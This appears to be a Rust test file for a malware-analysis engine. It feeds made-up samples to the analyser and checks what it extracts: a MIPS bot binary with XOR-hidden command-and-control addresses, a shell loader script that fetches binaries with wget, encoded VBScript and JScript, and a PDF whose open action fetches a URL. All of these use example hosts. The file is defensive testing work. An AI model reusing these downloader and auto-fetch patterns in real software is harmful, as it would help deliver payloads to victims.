//! Whole analyses of made-up samples.

use crate::specimen::{Specimen, hidden, noise};
use crate::{ENGINE, Limits, analyze, interrupted, line};
use ukai_model::{Analysis, ObservableKind, Outcome, ScriptAct, StringEncoding, Timestamp};

fn analysis(bytes: &[u8]) -> Analysis {
    analyze(bytes, Timestamp::from_secs(1_700_000_000), &Limits::default(), &mut |_| ())
}

#[test]
fn a_bot_gives_its_list() {
    let data = [
        b"/bin/busybox\0GET /bins/%s HTTP/1.0\0http://dl.example/bins/\0".to_vec(),
        hidden("cnc.botnet.example", 0x22),
        vec![0],
        hidden("198.51.100.23:48101", 0x22),
        noise(2000, 9),
    ];
    let analysis = analysis(&Specimen::mips(data.concat()).build());
    assert_eq!((analysis.engine.as_str(), &analysis.outcome), (ENGINE, &Outcome::Complete));
    let file_type = analysis.file_type.expect("identified");
    assert_eq!(file_type.name, "elf");
    assert_eq!(
        file_type.description,
        "ELF 32-bit MSB executable, MIPS, statically linked, stripped"
    );
    assert_eq!(analysis.elf.expect("headers").machine, "mips");
    let found = |kind, value: &str| {
        let is =
            |it: &&ukai_model::Found| it.observable.kind == kind && it.observable.value == value;
        analysis.observables.iter().find(is).map(|it| it.encoding.clone())
    };
    let xor = StringEncoding::Xor { key: 0x22 };
    assert_eq!(found(ObservableKind::Url, "http://dl.example/bins/"), Some(StringEncoding::Plain));
    assert_eq!(found(ObservableKind::Domain, "dl.example"), Some(StringEncoding::Plain));
    assert_eq!(found(ObservableKind::Domain, "cnc.botnet.example"), Some(xor.clone()));
    assert_eq!(found(ObservableKind::Endpoint, "198.51.100.23:48101"), Some(xor));
    assert_eq!(analysis.observables.len(), 5, "{:?}", analysis.observables);
    assert_eq!(analysis.notes, ["strings are XORed with 0x22"]);
    assert!(analysis.strings.iter().any(|text| text.as_bytes() == b"/bin/busybox"));
}

#[test]
fn a_loader_script_is_run() {
    let script = b"#!/bin/sh\nU=http://192.0.2.10\nfor a in mips arm; do wget $U/$a; done\nwget http://192.0.2.10/plain\n";
    let analysis = analysis(script);
    assert_eq!(analysis.file_type.expect("identified").name, "shell-script");
    let urls: Vec<(&str, &str, u64)> = analysis
        .observables
        .iter()
        .filter(|it| it.observable.kind == ObservableKind::Url)
        .map(|it| (it.observable.value.as_str(), it.method.as_str(), it.offset))
        .collect();
    assert_eq!(
        urls,
        [
            // What is only the beginning of those is not told. Read in the text, and confirmed.
            ("http://192.0.2.10/plain", "script", 74),
            ("http://192.0.2.10/mips", "script", 0),
            ("http://192.0.2.10/arm", "script", 0),
        ]
    );
    assert!(!analysis.commands.is_empty());
}

#[test]
fn what_scripts_tell_comes_after_all_else() {
    let script = b"#!/bin/sh\nwget http://192.0.2.10/a; echo H4sIAAAAAAAAA8tIzcnJVyjPL8pJUcgoKSkottLXNzSy0jPQM9IzAACzoOqhGgAAAA==\n";
    let mut stages = Vec::new();
    analyze(script, Timestamp::default(), &Limits::default(), &mut |stage| {
        let acts = stage.so_far.acts.len();
        stages.push((stage.name, stage.so_far.outcome.clone(), acts));
    });
    let during = |what: &str| Outcome::Partial { reason: format!("during {what}") };
    let unpacked = stages.iter().position(|it| it.0 == "unpacking").expect("a stage");
    let run = stages.iter().position(|it| it.0 == "script").expect("a stage");
    assert!(unpacked < run, "{stages:?}");
    assert_eq!((&stages[run].1, stages[run].2), (&during("script"), 0));
    assert_eq!(stages.last().map(|it| (it.0, it.2)), Some(("members", 1)));
}

#[test]
fn a_killed_analysis_leaves_what_it_had() {
    let mut lines = Vec::new();
    let mut stages = Vec::new();
    analyze(b"hello http://c2.example/", Timestamp::default(), &Limits::default(), &mut |stage| {
        stages.push(stage.name);
        if stages.len() <= 3 && stage.news {
            lines.extend(line(stage.so_far));
        }
    });
    assert_eq!(
        stages,
        [
            "type",
            "hashes",
            "strings",
            "xor",
            "base64",
            "configuration",
            "yara",
            "unpacking",
            "members"
        ]
    );
    let left = interrupted(&lines, Some("time limit of 10 s")).expect("three lines");
    let reason = "time limit of 10 s during xor".to_owned();
    assert_eq!(left.outcome, Outcome::Partial { reason });
    assert_eq!(left.observables.len(), 2);
    assert!(left.hashes.is_some());
    assert_eq!(interrupted(b"", Some("x")), None);
    assert_eq!(interrupted(b"{\"half\":", None), None);
}

/// As Microsoft's Script Encoder writes `s.Run "http://192.0.2.9/<a>"` and the like.
const ENCODED_VBSCRIPT: &[u8] = b"#@~^RQAAAA==j\x7fY~kP{PZM+mO+}4%+1YcEq?mMrwDR?4nsVr#@#@&dR];\tPEtDOw=z&qO RT yR1z@!C@*J@#@&+RMAAA==^#~@";
const ENCODED_JSCRIPT: &[u8] = b"#@~^SwAAAA==-mD~kP{Px\x7fh,)mDk-+or8%\x7fmYvE\x7fUmDb2ORUt\x7fVsJbI@#@&dR\";xvJ4ODw)&&8,+RZ yR0J4r#i@#@&DRYAAA==^#~@";

/// What is told of the programs that scripts start.
fn started(analysis: &Analysis) -> Vec<String> {
    let lines = analysis.acts.iter().filter_map(|it| match &it.act {
        ScriptAct::Run { line } => Some(line.to_string()),
        _ => None,
    });
    lines.collect()
}

#[test]
fn encoded_scripts_are_named_decoded_and_run() {
    for (bytes, name, line, language) in [
        (ENCODED_VBSCRIPT, "vbe", "http://192.0.2.9/<a>", "vbscript"),
        (ENCODED_JSCRIPT, "jse", "http://192.0.2.8/b", "javascript"),
    ] {
        let analysis = analysis(bytes);
        assert_eq!(analysis.file_type.as_ref().map(|it| it.name.as_str()), Some(name));
        assert_eq!(started(&analysis), [line], "{:?}", analysis.notes);
        let member = &analysis.members[0];
        assert_eq!((member.container.as_str(), &*member.file_type.name), ("script", language));
    }
    let page = [
        b"<html><script language=\"VBScript.Encode\">".to_vec(),
        ENCODED_VBSCRIPT.to_vec(),
        b"</script><script language=JScript.Encode>".to_vec(),
        ENCODED_JSCRIPT.to_vec(),
        b"</script></html>".to_vec(),
    ];
    let analysis = analysis(&page.concat());
    assert_eq!(analysis.file_type.as_ref().map(|it| it.name.as_str()), Some("html"));
    assert_eq!(started(&analysis), ["http://192.0.2.9/<a>", "http://192.0.2.8/b"]);
}

#[test]
fn scripts_of_a_pdf_are_run_together() {
    let mut packed = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(
        &mut packed,
        b"function go(path) { app.launchURL('http://192.0.2.7/' + path); }",
    )
    .expect("memory");
    let pdf = [
        b"%PDF-1.7\n1 0 obj <</Type/Catalog/OpenAction<</S/JavaScript/JS(go\\(\"a\"\\))>>\
          /Names<</JavaScript<</Names[(x) 2 0 R]>>>>>> endobj\n\
          2 0 obj <</S/JavaScript/#4aS 3 0 R>> endobj\n\
          4 0 obj <</AA<</O<</S/JavaScript/JS<676f28226222293b>>>>>>>> endobj\n\
          3 0 obj <</Filter/FlateDecode>>\nstream\n"
            .to_vec(),
        packed.finish().expect("memory"),
        b"\nendstream endobj\n".to_vec(),
    ];
    let analysis = analysis(&pdf.concat());
    let told: Vec<_> = analysis.acts.iter().map(|it| (it.layer, &it.act)).collect();
    let layer = analysis.members.iter().position(|it| it.container == "pdf script");
    let fetch = |path: &str| ScriptAct::Fetch {
        url: format!("http://192.0.2.7/{path}").as_str().into(),
        to: None,
    };
    let layer = layer.and_then(|it| u32::try_from(it).ok());
    assert!(layer.is_some());
    assert_eq!(told, [(layer, &fetch("a")), (layer, &fetch("b"))], "{:?}", analysis.notes);
}
